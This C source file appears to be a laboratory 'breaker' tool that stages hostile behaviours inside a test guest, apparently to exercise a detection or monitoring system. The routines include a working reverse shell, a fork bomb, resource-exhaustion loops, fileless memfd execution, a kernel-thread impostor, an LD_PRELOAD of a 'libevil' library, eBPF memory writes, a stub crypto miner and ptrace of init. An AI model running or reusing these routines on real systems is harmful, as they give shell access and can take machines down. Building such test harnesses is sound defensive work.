// A program that breaks the guest that it runs in, or is who it is done to: called with the name of what to do. What can be done
// with no code in the kernel is done here, and belongs into guests of the laboratory and nowhere else.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/if_packet.h>
#include <linux/seccomp.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static void fail(const char *what) {
  perror(what);
  exit(1);
}

static void stay(void) {
  for (;;) pause();
}

static void spin(void) {
  for (;;) __asm__ volatile("");
}

static void become(const char *name, int user) {
  if (user && (setresgid(user, user, user) || setresuid(user, user, user))) fail("setresuid");
  prctl(PR_SET_NAME, name);
}

// What others do something to: an unprivileged process that only waits.
static void victim(char **argv) {
  become("victim", 1000);
  stay();
}

static void confined(char **argv) {
  become("victim", 1000);
  struct sock_filter allow = {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW};
  struct sock_fprog program = {1, &allow};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program, 0, 0))
    fail("seccomp");
  stay();
}

// Takes memory until it is killed, before all others.
static void oom(char **argv) {
  int file = open("/proc/self/oom_score_adj", O_WRONLY);
  if (write(file, "1000", 4) != 4) fail("oom_score_adj");
  become("hungry", 0);
  for (;;) {
    // All at once: by a fault for each page, an emulated machine takes minutes.
    mmap(0, 1 << 24, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
  }
}

// Takes some memory a second, for ever: what a leak looks like.
static void leak(char **argv) {
  become("leaking", 0);
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  for (long taken = 0; taken < 600;) {
    usleep(50000);
    clock_gettime(CLOCK_MONOTONIC, &now);
    // By the clock: a slow machine takes more at once.
    long due = (now.tv_sec - start.tv_sec) * 10 + (now.tv_nsec - start.tv_nsec) / 100000000;
    for (; taken < due; taken++) {
      char *more = mmap(0, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
      if (more != MAP_FAILED) memset(more, 1, 1 << 20);
    }
  }
  stay();
}

// Twice as many every quarter of a second, up to two thousand.
static void fork_bomb(char **argv) {
  become("bomb", 0);
  for (int generation = 0; generation < 11; generation++) {
    usleep(250000);
    if (fork() < 0) break;
  }
  stay();
}

static void descriptors(char **argv) {
  become("greedy", 0);
  while (open("/dev/null", O_RDONLY) >= 0) {}
  stay();
}

static void processes(char **argv) {
  become("breeder", 0);
  for (;;) {
    pid_t child = fork();
    if (child == 0) stay();
    if (child < 0) sleep(1);
  }
}

// A real-time process that leaves a CPU to nobody, and one that wants it.
static void starvation(char **argv) {
  cpu_set_t one;
  CPU_ZERO(&one);
  CPU_SET(1, &one);
  if (sched_setaffinity(0, sizeof one, &one)) fail("sched_setaffinity");
  if (fork() == 0) {
    become("starved", 0);
    spin();
  }
  become("glutton", 0);
  struct sched_param priority = {.sched_priority = 50};
  if (sched_setscheduler(0, SCHED_FIFO, &priority)) fail("sched_setscheduler");
  spin();
}

static struct sockaddr_in end_of(const char *address, int port) {
  struct sockaddr_in end = {.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, address, &end.sin_addr);
  return end;
}

static int listener(const char *address, int port, int backlog) {
  struct sockaddr_in end = end_of(address, port);
  int file = socket(AF_INET, SOCK_STREAM, 0), one = 1;
  setsockopt(file, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  if (bind(file, (struct sockaddr *)&end, sizeof end) || listen(file, backlog)) fail("listen");
  return file;
}

static void queue_full(char **argv) {
  become("deaf", 0);
  int file = listener("127.0.0.1", 7001, 1);
  (void)file;
  for (int i = 0; i < 8; i++) {
    struct sockaddr_in end = end_of("127.0.0.1", 7001);
    int other = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    connect(other, (struct sockaddr *)&end, sizeof end);
  }
  stay();
}

// A shell whose input and output are a connection to another host; the other host is this one, by another address.
static void reverse_shell(char **argv) {
  int server = listener("10.99.0.1", 4444, 4);
  if (fork() == 0) {
    struct sockaddr_in end = end_of("10.99.0.1", 4444);
    int file = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(file, (struct sockaddr *)&end, sizeof end)) fail("connect");
    for (int i = 0; i < 3; i++) dup2(file, i);
    close(server);
    execl("/bin/sh", "sh", "-i", (char *)0);
    _exit(127);
  }
  become("handler", 0);
  if (accept(server, 0, 0) < 0) fail("accept");
  stay();
}

static void packet_filter(char **argv) {
  become("listener", 0);
  struct sock_filter allow = {BPF_RET | BPF_K, 0, 0, 0xffff};
  struct sock_fprog program = {1, &allow};
  int file = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (file < 0 || setsockopt(file, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program)) fail("filter");
  stay();
}

static void promiscuous(char **argv) {
  become("sniffer", 0);
  int file = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  struct packet_mreq request = {.mr_ifindex = if_nametoindex("lo"), .mr_type = PACKET_MR_PROMISC};
  if (file < 0 || setsockopt(file, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &request, sizeof request)) fail("promiscuous");
  stay();
}

// A program that lies in no file system.
static void fileless(char **argv) {
  char buffer[65536];
  ssize_t count;
  int from = open("/proc/self/exe", O_RDONLY), to = memfd_create("", MFD_CLOEXEC);
  if (from < 0 || to < 0) fail("memfd_create");
  while ((count = read(from, buffer, sizeof buffer)) > 0)
    if (write(to, buffer, count) != count) fail("write");
  fexecve(to, (char *[]){"fileless", "stay", 0}, environ);
  fail("fexecve");
}

static void just_stay(char **argv) { stay(); }

// A process that calls itself as a thread of the kernel is called.
static void impostor(char **argv) {
  prctl(PR_SET_NAME, "kworker/0:3");
  for (int i = 0; argv[i]; i++) memset(argv[i], 0, strlen(argv[i]));
  stay();
}

static const unsigned char code[] = {0x31, 0xc0, 0xc3};

static void injected(char **argv) {
  become("injected", 0);
  char *page = mmap(0, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  memcpy(page, code, sizeof code);
  ((int (*)(void))(void *)page)();
  stay();
}

// Its own text, rewritten where it lies.
static void rewritten(char **argv) {
  become("rewritten", 0);
  char *page = (char *)((unsigned long)just_stay & ~4095ul);
  if (mprotect(page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC)) fail("mprotect");
  memcpy((char *)just_stay, code, sizeof code);
  if (mprotect(page, 4096, PROT_READ | PROT_EXEC)) fail("mprotect");
  stay();
}

// What a debugger leaves behind: a page of code that is the process's own, and as it was.
static void restored(char **argv) {
  become("debugged", 0);
  volatile char *place = (char *)just_stay, *page = (char *)((unsigned long)just_stay & ~4095ul);
  char was = *place;
  if (mprotect((void *)page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC)) fail("mprotect");
  *place = 0xcc;
  *place = was;
  if (mprotect((void *)page, 4096, PROT_READ | PROT_EXEC)) fail("mprotect");
  stay();
}

static void stack(char **argv) {
  become("stack-code", 0);
  char *page = (char *)((unsigned long)argv & ~4095ul);
  if (mprotect(page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC)) fail("mprotect");
  stay();
}

static void tracer(char **argv) {
  become("tracer", 0);
  pid_t child = fork();
  if (child == 0) {
    become("victim", 0);
    stay();
  }
  if (ptrace(PTRACE_SEIZE, child, 0, 0)) fail("ptrace");
  stay();
}

static void preload(char **argv) {
  execve("/proc/self/exe", (char *[]){"preloaded", "stay", 0}, (char *[]){"LD_PRELOAD=/tmp/libevil.so", 0});
  fail("execve");
}

static int bpf(int command, union bpf_attr *attributes) {
  return syscall(SYS_bpf, command, attributes, sizeof *attributes);
}

static int load(int type, struct bpf_insn *instructions, int count, const char *name) {
  union bpf_attr attributes = {
      .prog_type = type, .insns = (unsigned long)instructions, .insn_cnt = count, .license = (unsigned long)"GPL"};
  strcpy(attributes.prog_name, name);
  int program = bpf(BPF_PROG_LOAD, &attributes);
  if (program < 0) fail("BPF_PROG_LOAD");
  return program;
}

// A program of the kernel's that writes into the memory of processes.
static void bpf_write(char **argv) {
  become("writer", 0);
  struct bpf_insn instructions[] = {
      {.code = BPF_ST | BPF_DW | BPF_MEM, .dst_reg = 10, .off = -8, .imm = 0},
      {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 1, .imm = 0},
      {.code = BPF_ALU64 | BPF_MOV | BPF_X, .dst_reg = 2, .src_reg = 10},
      {.code = BPF_ALU64 | BPF_ADD | BPF_K, .dst_reg = 2, .imm = -8},
      {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 3, .imm = 8},
      {.code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_probe_write_user},
      {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0},
      {.code = BPF_JMP | BPF_EXIT}};
  load(BPF_PROG_TYPE_KPROBE, instructions, 8, "evil_write");
  stay();
}

static void bpf_xdp(char **argv) {
  become("redirector", 0);
  struct bpf_insn instructions[] = {
      {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 2}, {.code = BPF_JMP | BPF_EXIT}};
  int program = load(BPF_PROG_TYPE_XDP, instructions, 2, "evil_xdp");
  union bpf_attr attributes = {0};
  attributes.link_create.prog_fd = program;
  attributes.link_create.target_ifindex = if_nametoindex("lo");
  attributes.link_create.attach_type = BPF_XDP;
  if (bpf(BPF_LINK_CREATE, &attributes) < 0) fail("BPF_LINK_CREATE");
  stay();
}

// What finds coins for others: it keeps a CPU busy and a connection open, and has the words of its protocol in its memory.
static void miner(char **argv) {
  become("miner", 1000);
  char *words = mmap(0, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  strcpy(words, "{\"method\":\"mining.submit\"} stratum+tcp://pool.example:3333");
  int server = listener("10.99.0.1", 3333, 4);
  struct sockaddr_in end = end_of("10.99.0.1", 3333);
  int file = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(file, (struct sockaddr *)&end, sizeof end) || accept(server, 0, 0) < 0) fail("connect");
  spin();
}

// Takes much memory at an even pace, as much as it needs, and goes on with that.
static void growing(char **argv) {
  become("growing", 0);
  for (int n = 0; n < 100; n++) {
    char *part = malloc(2 << 20);
    if (!part) fail("malloc");
    memset(part, 1, 2 << 20);
    usleep(100000);
  }
  stay();
}

// Begins hundreds of threads, again and again, and waits for them.
static void *sleep_a_little(void *unused) {
  usleep(300000);
  return 0;
}
static void threads(char **argv) {
  become("threads", 0);
  for (;;) {
    pthread_t all[300];
    int count = 0;
    while (count < 300 && !pthread_create(&all[count], 0, sleep_a_little, 0)) count++;
    while (count > 0) pthread_join(all[--count], 0);
  }
}

// Stops the first process as a debugger does, and holds on to it.
static void init_stopped(char **argv) {
  int status;
  if (ptrace(PTRACE_SEIZE, 1, 0, 0) || ptrace(PTRACE_INTERRUPT, 1, 0, 0)) fail("ptrace");
  waitpid(1, &status, __WALL);
  stay();
}

// Says of a page of its own that its memory is broken, as the hardware would.
static void poison(char **argv) {
  char *page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (page == MAP_FAILED) fail("mmap");
  memset(page, 1, 4096);
  if (madvise(page, 4096, MADV_HWPOISON)) fail("madvise");
  exit(0);
}

// Loads a kernel that would do nothing, for the next reboot.
static void next_kernel(char **argv) {
  static char text[4096] __attribute__((aligned(4096)));
  struct {
    void *from;
    size_t bytes;
    unsigned long to;
    size_t room;
  } segment = {text, sizeof text, 128 << 20, sizeof text};
  if (syscall(SYS_kexec_load, 128ul << 20, 1ul, &segment, 0ul)) fail("kexec_load");
  exit(0);
}

// A connection to itself whose reader never reads: TCP keeps what is sent.
static void unread(char **argv) {
  struct sockaddr_in end = {.sin_family = AF_INET, .sin_port = htons(7002), .sin_addr = {htonl(INADDR_LOOPBACK)}};
  int server = socket(AF_INET, SOCK_STREAM, 0), file = socket(AF_INET, SOCK_STREAM, 0);
  if (bind(server, (struct sockaddr *)&end, sizeof end) || listen(server, 1)) fail("listen");
  if (connect(file, (struct sockaddr *)&end, sizeof end) || accept(server, 0, 0) < 0) fail("connect");
  static char bytes[65536];
  fcntl(file, F_SETFL, O_NONBLOCK);
  for (int n = 0; n < 400; n++) {
    if (write(file, bytes, sizeof bytes) < 0) usleep(10000);
  }
  stay();
}

// A disk with a small FAT file system, on which a file's second cluster is one that belongs to nobody.
static void disk(char **argv) {
  static const unsigned char boot[] = {
      0xeb, 0x3c, 0x90, 'g', 'r', 'a', 's', 's', ' ', ' ', ' ',
      0, 2,        // bytes in a sector
      2,           // sectors in a cluster
      1, 0,        // sectors before the first table
      2,           // tables
      0, 2,        // entries of the root directory
      0, 64,       // sectors: 8 MiB
      0xf8,        // medium
      32, 0,       // sectors of a table
      32, 0, 64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x80, 0, 0x29, 1, 2, 3, 4};
  static unsigned char image[8 << 20];
  memcpy(image, boot, sizeof boot);
  memcpy(image + 43, "LABORATORY FAT16   ", 19);
  memcpy(image + 510, "\x55\xaa", 2);
  for (int table = 0; table < 2; table++) memcpy(image + 512 + table * 32 * 512, "\xf8\xff\xff\xff\x00\x00", 6);
  unsigned char *entry = image + 512 * (1 + 2 * 32);
  memcpy(entry, "BAD     TXT", 11);
  entry[11] = 0x20;
  entry[26] = 2;
  entry[29] = 0x40;
  int file = open("/tmp/disk", O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (write(file, image, sizeof image) != sizeof image) fail("write");
  exit(0);
}

static const struct {
  const char *name;
  void (*act)(char **argv);
} deeds[] = {
    {"victim", victim},
    {"confined", confined},
    {"stay", just_stay},
    {"oom", oom},
    {"leak", leak},
    {"fork-bomb", fork_bomb},
    {"fd-exhaustion", descriptors},
    {"pid-exhaustion", processes},
    {"cpu-starvation", starvation},
    {"accept-queue-full", queue_full},
    {"reverse-shell", reverse_shell},
    {"packet-filter-socket", packet_filter},
    {"promiscuous", promiscuous},
    {"memfd-exe", fileless},
    {"kthread-impostor", impostor},
    {"injected-code", injected},
    {"text-rewritten", rewritten},
    {"text-restored", restored},
    {"stack-executable", stack},
    {"ptrace", tracer},
    {"preload", preload},
    {"bpf-write", bpf_write},
    {"bpf-xdp", bpf_xdp},
    {"miner", miner},
    {"growing", growing},
    {"threads", threads},
    {"init-stopped", init_stopped},
    {"poison", poison},
    {"next-kernel", next_kernel},
    {"unread", unread},
    {"disk", disk},
};

int main(int argc, char **argv) {
  for (unsigned i = 0; argc > 1 && i < sizeof deeds / sizeof *deeds; i++)
    if (!strcmp(deeds[i].name, argv[1])) deeds[i].act(argv);
  fprintf(stderr, "breaker: there is nothing called %s\n", argc > 1 ? argv[1] : "");
  return 2;
}
